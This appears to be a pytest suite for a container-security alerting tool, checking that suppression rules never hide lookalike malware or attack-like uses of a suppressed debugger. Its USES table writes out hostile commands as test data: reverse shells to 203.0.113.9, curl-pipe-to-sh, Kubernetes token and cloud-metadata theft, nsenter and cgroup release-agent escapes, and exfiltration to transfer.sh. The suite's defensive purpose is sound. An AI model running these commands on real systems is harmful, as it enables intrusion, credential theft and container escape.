"""What resembles a suppressed file is not suppressed: malware at its path, under its name, in its workload."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from html import unescape
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from drift.alerts.actions import suppression_rules, triage
from drift.alerts.actions.ingest import ingest
from drift.alerts.actions.suppression_rules import ReviewRequired, SuppressionDraft
from drift.alerts.models import Alert, HashList, ListedHash, Resolution, Status, SuppressedContent, SuppressionRule
from tests.unit.drift.alerts.conftest import Estate, event, raw, save_reviewed

pytestmark = [pytest.mark.services, pytest.mark.django_db]
ClientOf = Callable[[Any], Client]
HTMX = {"HX-Request": "true"}
URL = "/alerts/suppression/rule/"
TOOL = "/opt/tools/gdb"
KNOWN, OTHER = "a" * 64, "e" * 64


def tool(**changes: Any) -> dict[str, Any]:
    """An exec of the harmless tool, changed."""
    return event(**{"process__path": TOOL, "process__name": "gdb", "process__argv": ["gdb", "-p", "1"], **changes})


def fields_of(html: str) -> dict[str, Any]:
    """What a browser sends of a form as it is."""
    sent: dict[str, Any] = {}
    for tag in re.findall(r"<input [^>]*>", html):
        attributes = {name: unescape(value) for name, value in re.findall(r'([\w-]+)="([^"]*)"', tag)}
        kind, name = attributes.get("type", "text"), attributes.get("name")
        if name and (kind not in {"checkbox", "radio"} or re.search(r"\schecked\b", tag)):
            sent[name] = attributes.get("value", "on")
    for name, text in re.findall(r'<textarea [^>]*?name="([^"]+)"[^>]*>(.*?)</textarea>', html, re.DOTALL):
        sent[name] = unescape(text)
    for name, options in re.findall(r'<select [^>]*?name="([^"]+)"[^>]*>(.*?)</select>', html, re.DOTALL):
        values = re.findall(r'value="([^"]+)"( selected)?', options)
        sent[name] = next((value for value, chosen in values if chosen), values[0][0])
    return sent


@pytest.fixture
def prefilled(estate: Estate, operator: Any, client_of: ClientOf) -> dict[str, Any]:
    """The panel of a rule from the alert of a harmless tool, as it is sent without a change."""
    ingest(estate.sensors[0], raw(tool()))
    return fields_of(client_of(operator).get(URL, {"alert": Alert.objects.get().pk}, headers=HTMX).content.decode())


@pytest.fixture
def saved(prefilled: dict[str, Any], operator: Any, client_of: ClientOf) -> SuppressionRule:
    """The rule from the alert, as prefilled; the alert is closed, so that what follows opens another."""
    assert client_of(operator).post(URL, prefilled, headers=HTMX).status_code == 200
    close_all(operator)
    return SuppressionRule.objects.get()


def close_all(operator: Any, resolution: Resolution = Resolution.EXPECTED, **where: Any) -> None:
    found = dict(Alert.objects.filter(status="active", **where).values_list("pk", "revision"))
    status = Status.RESOLVED if resolution == Resolution.TRUE_POSITIVE else Status.DISMISSED
    triage.change_status(operator, found, triage.StatusChange(status, resolution))
    Alert.objects.filter(pk__in=found).update(quiet_until=None)


LOOKALIKES: dict[str, dict[str, Any]] = {
    "other content at its path": {"process__sha256": OTHER},
    "other content and other arguments": {"process__sha256": OTHER, "process__argv": ["gdb", "-o", "pool:3333"]},
    "its name in another directory": {"process__path": "/tmp/gdb", "process__sha256": OTHER},
    "renamed in its directory": {
        "process__path": "/opt/tools/gdb2",
        "process__name": "gdb2",
        "process__sha256": OTHER,
    },
    "a hard link to other content": {"process__path": "/opt/tools/gdb.bin", "process__sha256": OTHER},
    "a script in place of the binary": {"kind": "script", "process__sha256": OTHER, "process__via": "/bin/sh"},
    "a library in its place": {"kind": "library", "process__sha256": OTHER},
    "a file that the loader runs": {"kind": "loader", "process__sha256": OTHER, "process__via": "/lib/ld.so"},
    "a changed file of the image": {"kind": "replaced", "process__sha256": OTHER},
    "other content in another tag of the image": {
        "container__image_name": "ghcr.io/team/app:9.9",
        "process__sha256": OTHER,
    },
    "other content in another pod of the workload": {
        "container__pod_name": "cart-7d9f-zzzzz",
        "container__id": "d" * 64,
        "process__sha256": OTHER,
    },
    "gone before it was hashed": {"process__sha256": None, "process__hash_status": "gone"},
    "too large to be hashed": {"process__sha256": None, "process__hash_status": "too_large"},
    "unreadable": {"process__sha256": None, "process__hash_status": "unreadable"},
    "a memfd that is named like it": {"kind": "fileless", "process__sha256": OTHER},
    "a memfd that could not be hashed": {"kind": "fileless", "process__sha256": None, "process__hash_status": "gone"},
    "its path in other letter case": {"process__path": "/opt/Tools/GDB", "process__sha256": OTHER},
    "its path with a Cyrillic letter": {"process__path": "/opt/tооls/gdb", "process__sha256": OTHER},
    "its path with an invisible character": {"process__path": "/opt/tools/gdb\u200b", "process__sha256": OTHER},
    "its path with a combining character": {"process__path": "/opt/tools/g\u0307db", "process__sha256": OTHER},
    "its path with a space at the end": {"process__path": f"{TOOL} ", "process__sha256": OTHER},
    "its path through the parent directory": {"process__path": "/opt/tools/../tools/gdb", "process__sha256": OTHER},
    "blocked": {"process__sha256": OTHER, "outcome": "blocked"},
    "not blocked, though a rule blocks it": {"process__sha256": OTHER, "outcome": "not_blocked"},
    "a renamed copy of the image's shell": {
        "kind": "copy_of_image_file",
        "process__copy_of": "/bin/bash",
        "process__sha256": OTHER,
    },
    "on a mount over its directory": {"kind": "foreign_mount", "process__sha256": OTHER},
    "on a volume in its place": {"kind": "volume", "process__sha256": OTHER},
    "from a volume of another image": {"kind": "image_volume", "process__sha256": OTHER},
    "a script for an interpreter of the image": {
        "kind": "interpreter",
        "process__sha256": OTHER,
        "process__via": "/usr/bin/python3",
    },
    "called by the tool's own command line as root": {"process__sha256": OTHER, "process__uid": 0},
    "its path with two slashes": {"process__path": "/opt//tools/gdb", "process__sha256": OTHER},
    "its path in full width": {"process__path": "/opt/tools/ｇｄｂ", "process__sha256": OTHER},
    "its path, deleted": {"process__path": f"{TOOL} (deleted)", "process__sha256": OTHER},
    "counted in a summary": {"mode": "summary", "count": 40, "process__sha256": OTHER},
    "in a container that is known in part": {"identity": "incomplete", "process__sha256": OTHER},
}
"""Ways in which malware resembles a suppressed tool: each with content that was never seen."""
ELSEWHERE: dict[str, dict[str, Any]] = {
    "in another container of the workload": {"container__name": "sidecar"},
    "in another workload of the namespace": {"container__pod_name": "bank-7d9f-abcde"},
    "in another namespace": {"container__namespace": "bank"},
    "in another image": {"container__image_name": "ghcr.io/team/other:1.2"},
    "under another name": {"process__path": "/tmp/.x", "process__name": ".x"},
    "in memory": {"kind": "fileless", "process__path": "/memfd:gdb (deleted)"},
}
"""The very content where nobody has judged it."""


USES: dict[str, list[str]] = {
    "mines": ["gdb", "-o", "stratum+tcp://pool.example:3333"],
    "opens a shell to elsewhere": ["gdb", "-batch", "-ex", "shell bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    "is a busybox that calls back": ["gdb", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"],
    "spawns a terminal": ["gdb", "-ex", 'python import pty; pty.spawn("/bin/sh")'],
    "reads the pod's token": ["gdb", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    "reads the secrets of another process": ["gdb", "-p", "1", "-ex", "shell cat /proc/1/environ"],
    "asks the cloud for credentials": ["gdb", "wget", "-qO-", "http://169.254.169.254/latest/meta-data/"],
    "enters the node": ["gdb", "nsenter", "-t", "1", "-m", "sh"],
    "calls the runtime": ["gdb", "curl", "--unix-socket", "/run/containerd/containerd.sock", "http://x/"],
    "runs what it downloads": ["gdb", "-ex", "shell curl -s http://203.0.113.9/x | sh"],
    "unpacks a program": ["gdb", "-ex", "shell echo f0VMRg== | base64 -d > x"],
    "scans the network": ["gdb", "10.0.0.0/8", "-p", "1-65535", "--rate", "10000"],
    "tunnels": ["gdb", "ssh", "-N", "-R", "2222:localhost:22", "203.0.113.9"],
    "sends files away": ["gdb", "curl", "--upload-file", "/data.tgz", "https://transfer.sh/x"],
    "escapes by a release agent": ["gdb", "sh", "-c", "echo /x > /sys/fs/cgroup/rdma/release_agent"],
}
"""The suppressed content itself, put to a use that nobody has judged."""


@pytest.mark.parametrize("argv", USES.values(), ids=USES)
def test_a_rule_from_an_alert_hides_no_use_of_the_file_that_looks_like_an_attack(
    estate: Estate, saved: SuppressionRule, argv: list[str]
) -> None:
    ingest(estate.sensors[0], raw(tool(), tool(process__argv=argv)))

    # One alert of one fingerprint: with the harmless execution too, it is not dismissed.
    assert Alert.objects.latest("pk").status == "active"


def test_a_dismissed_alert_counts_no_use_that_looks_like_an_attack(estate: Estate, saved: SuppressionRule) -> None:
    ingest(estate.sensors[0], raw(tool()))
    assert Alert.objects.latest("pk").suppressed_by == saved

    ingest(estate.sensors[0], raw(tool(process__argv=USES["mines"])))

    assert Alert.objects.latest("pk").status == "active"


def test_a_rule_from_an_alert_that_looks_like_an_attack_names_its_command_line(
    estate: Estate, operator: Any, client_of: ClientOf
) -> None:
    ingest(estate.sensors[0], raw(tool(process__argv=USES["tunnels"])))
    browser = client_of(operator)
    panel = fields_of(browser.get(URL, {"alert": Alert.objects.get().pk}, headers=HTMX).content.decode())
    assert browser.post(URL, panel, headers=HTMX).status_code == 200
    close_all(operator)

    ingest(estate.sensors[0], raw(tool(process__argv=USES["tunnels"])))
    assert Alert.objects.latest("pk").status == "dismissed"
    ingest(estate.sensors[0], raw(tool(process__argv=[*USES["tunnels"], "-v"])))
    assert Alert.objects.latest("pk").status == "active"


@pytest.mark.parametrize("changes", LOOKALIKES.values(), ids=LOOKALIKES)
def test_a_rule_from_an_alert_hides_nothing_that_resembles_the_file(
    estate: Estate, saved: SuppressionRule, changes: dict[str, Any], operator: Any, client_of: ClientOf
) -> None:
    ingest(estate.sensors[0], raw(tool(**changes)))

    newest = Alert.objects.latest("pk")
    assert (newest.status, newest.suppressed_by) == ("active", None)
    listed = client_of(operator).get("/alerts/").content.decode()
    assert f'id="alert-{newest.pk}"' in listed
    api = client_of(operator).get("/api/v1/alerts/").json()["alerts"]
    assert [each["id"] for each in api] == [newest.pk]


@pytest.mark.parametrize("changes", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_rule_from_an_alert_covers_its_workload_alone(
    estate: Estate, saved: SuppressionRule, changes: dict[str, Any]
) -> None:
    ingest(estate.sensors[0], raw(tool(**changes)))

    assert Alert.objects.latest("pk").status == "active"


def test_a_rule_from_an_alert_covers_its_cluster_alone(estate: Estate, saved: SuppressionRule) -> None:
    ingest(estate.sensors[2], raw(tool()))

    assert Alert.objects.latest("pk").status == "active"


@pytest.mark.parametrize("changes", LOOKALIKES.values(), ids=LOOKALIKES)
def test_a_rule_without_a_hash_hides_no_content_that_was_not_reviewed(
    estate: Estate, prefilled: dict[str, Any], changes: dict[str, Any], operator: Any, client_of: ClientOf
) -> None:
    """The widest rule: its namespace, and nothing of the file."""
    browser = client_of(operator)
    kept = ("name", "reason", "enabled", "expiration", "expires", "value-namespace", "operator-namespace")
    wide = {name: value for name, value in prefilled.items() if name in kept}
    asked = browser.post(URL, wide, headers=HTMX)
    assert (asked.status_code, SuppressionRule.objects.count()) == (422, 0)
    reviewed = fields_of(asked.content.decode())
    assert browser.post(URL, reviewed, headers=HTMX).status_code == 200
    close_all(operator)

    ingest(estate.sensors[0], raw(tool(container__name="sidecar"), tool(**{"container__id": "b" * 64, **changes})))

    known, unknown = Alert.objects.order_by("-pk")[:2][::-1]
    by_path = {(each.binary.sha256, each.status) for each in (known, unknown)}
    assert (KNOWN, "dismissed") in by_path
    assert by_path - {(KNOWN, "dismissed")} == {(changes["process__sha256"] or "", "active")}


def test_the_prefilled_rule_is_the_narrowest_and_ends(saved: SuppressionRule) -> None:
    conditions = {each["property"]: each["any_of"] for each in saved.conditions}
    assert {name: values[0]["value"] for name, values in conditions.items()} == {
        "process_path": TOOL,
        "process_sha256": KNOWN,
        "image_name": "ghcr.io/team/app",
        "namespace": "shop",
        "container_name": "app",
        "cluster_name": "blue",
        "pod_name": "cart-",
    }
    assert saved.expires_at is not None
    assert 30 <= (saved.expires_at - timezone.now()).days <= 31
    assert not saved.covers_new_content


def test_the_prefilled_rule_covers_the_next_pod_and_the_next_release(estate: Estate, saved: SuppressionRule) -> None:
    release = {"container__image_name": "ghcr.io/team/app:1.3", "container__pod_name": "cart-5c44-abcde"}
    ingest(estate.sensors[1], raw(tool(container__id="d" * 64, **release)))

    assert Alert.objects.latest("pk").suppressed_by == saved
    SuppressionRule.objects.update(expires_at=timezone.now())
    ingest(estate.sensors[1], raw(tool(container__id="d" * 64, **release)))
    assert Alert.objects.latest("pk").status == "active"


def test_a_file_without_a_hash_is_only_covered_by_the_words(estate: Estate, operator: Any, client_of: ClientOf) -> None:
    gone = {"process__sha256": None, "process__hash_status": "gone"}
    ingest(estate.sensors[0], raw(tool(**gone)))
    browser = client_of(operator)
    panel = fields_of(browser.get(URL, {"alert": Alert.objects.get().pk}, headers=HTMX).content.decode())
    assert "value-process_sha256" not in {name for name, value in panel.items() if value}

    page = browser.post("/alerts/suppression/simulate/", panel, headers=HTMX).content.decode()
    assert "It dismisses nothing as it is" in page
    ticked = {**panel, "covers_new_content": "on"}
    shown = browser.post("/alerts/suppression/simulate/", ticked, headers=HTMX).content.decode()
    assert "content that has never been seen, malware included" in shown
    assert browser.post(URL, {**ticked, **fields_of(shown)}, headers=HTMX).status_code == 200
    close_all(operator)

    ingest(estate.sensors[0], raw(tool(container__pod_name="cart-7d9f-zzzzz", **gone), tool(process__sha256=OTHER)))
    assert {each.status for each in Alert.objects.all()} == {"dismissed"}


def plant_attack(estate: Estate, operator: Any) -> Alert:
    """34 harmless alerts of one workload and, at one of their paths, a true positive; and an alert elsewhere."""
    for number in range(33):
        ingest(estate.sensors[0], raw(tool(process__path=f"/opt/tools/{number}", process__sha256=f"{number:064x}")))
    ingest(estate.sensors[0], raw(tool(process__path="/opt/tools/7", process__sha256=OTHER)))
    attack = Alert.objects.latest("pk")
    close_all(operator, Resolution.TRUE_POSITIVE, pk=attack.pk)
    close_all(operator)
    ingest(estate.sensors[0], raw(tool(process__path="/usr/bin/x", container__namespace="bank")))
    return attack


WIDE = {
    "name": "Tools",
    "enabled": "on",
    "reason": "expected",
    "operator-process_path": "starts_with",
    "value-process_path": "/opt/tools/",
}


def test_a_simulation_names_the_true_positives_and_is_not_overlooked(
    estate: Estate, operator: Any, client_of: ClientOf
) -> None:
    attack, browser = plant_attack(estate, operator), client_of(operator)

    simulated = browser.post("/alerts/suppression/simulate/", WIDE, headers=HTMX).content.decode()
    assert "<strong>34</strong> of 35 alerts" in simulated
    assert re.search(rf"one of them a true positive: <a [^>]*>alert {attack.pk}</a>", simulated)

    for unseen in ({}, {"reviewed": ""}, {"reviewed": f"{attack.pk}:0"}, {"covers_new_content": "on"}):
        asked = browser.post(URL, {**WIDE, **unseen}, headers=HTMX)
        page = asked.content.decode()
        assert (asked.status_code, SuppressionRule.objects.count()) == (422, 0)
        assert f"alert {attack.pk}</a>" in page
        assert "reviewed" not in fields_of(page), "it has to be ticked"
    token = re.search(r'name="reviewed" value="([^"]+)"', simulated)
    assert token
    other = {**WIDE, "value-process_path": "/opt/", "reviewed": token[1]}
    assert browser.post(URL, other, headers=HTMX).status_code == 422, "a review of another rule"

    assert browser.post(URL, {**WIDE, "reviewed": token[1]}, headers=HTMX).status_code == 200
    again = tool(process__path="/opt/tools/8", process__sha256=OTHER)
    ingest(estate.sensors[0], raw(again))
    assert Alert.objects.latest("pk").status == "active", "the content of a true positive is never among what was seen"


@pytest.mark.parametrize("known_by", ["reviewer", "list"])
@pytest.mark.parametrize("conditions", [{"process_path": TOOL}, {"process_path": TOOL, "process_sha256": OTHER}])
def test_a_simulation_names_what_is_known_elsewhere_to_be_an_attack(
    estate: Estate, operator: Any, client_of: ClientOf, known_by: str, conditions: dict[str, str]
) -> None:
    ingest(estate.sensors[0], raw(tool(process__sha256=OTHER)))
    mine = Alert.objects.latest("pk")
    if known_by == "reviewer":
        ingest(estate.sensors[2], raw(tool(process__sha256=OTHER, process__path="/x", container__namespace="bank")))
        close_all(operator, Resolution.TRUE_POSITIVE, pk=Alert.objects.latest("pk").pk)
    else:
        listed = HashList.objects.create(name="Our feed", verdict="bad", size=1)
        ListedHash.objects.create(hash_list=listed, sha256=OTHER)
    panel = {"name": "Tools", "enabled": "on", "reason": "expected"}
    for name, value in conditions.items():
        panel |= {f"operator-{name}": "equals", f"value-{name}": value}

    page = client_of(operator).post("/alerts/suppression/simulate/", panel, headers=HTMX).content.decode()

    assert ("true positive elsewhere" in page) == (known_by == "reviewer")
    assert ("Our feed" in page) == (known_by == "list")
    assert "reviewed" not in fields_of(page), "it has to be ticked"
    assert client_of(operator).post(URL, panel, headers=HTMX).status_code == 422
    token = re.search(r'name="reviewed" value="([^"]+)"', page)
    assert token
    assert client_of(operator).post(URL, {**panel, "reviewed": token[1]}, headers=HTMX).status_code == 200
    assert not SuppressedContent.objects.filter(sha256=OTHER).exists()
    assert mine.status == "active"


def test_a_rule_that_is_changed_only_in_words_learns_no_content(
    estate: Estate, operator: Any, client_of: ClientOf
) -> None:
    ingest(estate.sensors[0], raw(tool()))
    draft = SuppressionDraft("Tools", [{"property": "process_path", "any_of": [{"operator": "equals", "value": TOOL}]}])
    rule = save_reviewed(operator, draft)
    ingest(estate.sensors[0], raw(tool(process__sha256=OTHER)))
    rule = suppression_rules.save(operator, replace(draft, comment="Ours"), rule.pk, rule.revision)
    assert set(rule.contents.values_list("sha256", flat=True)) == {KNOWN}

    again = replace(draft, reviews_again=True)
    with pytest.raises(ReviewRequired) as required:
        suppression_rules.save(operator, again, rule.pk, rule.revision)
    rule = suppression_rules.save(operator, again, rule.pk, rule.revision, required.value.preview.token)

    assert set(rule.contents.values_list("sha256", flat=True)) == {KNOWN, OTHER}


def test_the_list_links_each_rule_to_exactly_the_alerts_that_it_dismissed(
    estate: Estate, saved: SuppressionRule, reader: Any, client_of: ClientOf
) -> None:
    ingest(estate.sensors[0], raw(tool(container__id="d" * 64)))
    page = client_of(reader).get("/alerts/suppression/").content.decode()
    link = re.search(rf'<a href="([^"]+)" aria-label="Alerts dismissed by {saved.name}: (\d+)', page)
    assert link
    listed = client_of(reader).get(unescape(link[1])).content.decode()
    assert listed.count('data-alert="') == int(link[2]) == Alert.objects.filter(suppressed_by=saved).count() == 1
    assert "Content by hash" in page
    SuppressionRule.objects.update(expires_at=timezone.now())
    assert "Expired" in client_of(reader).get("/alerts/suppression/").content.decode()
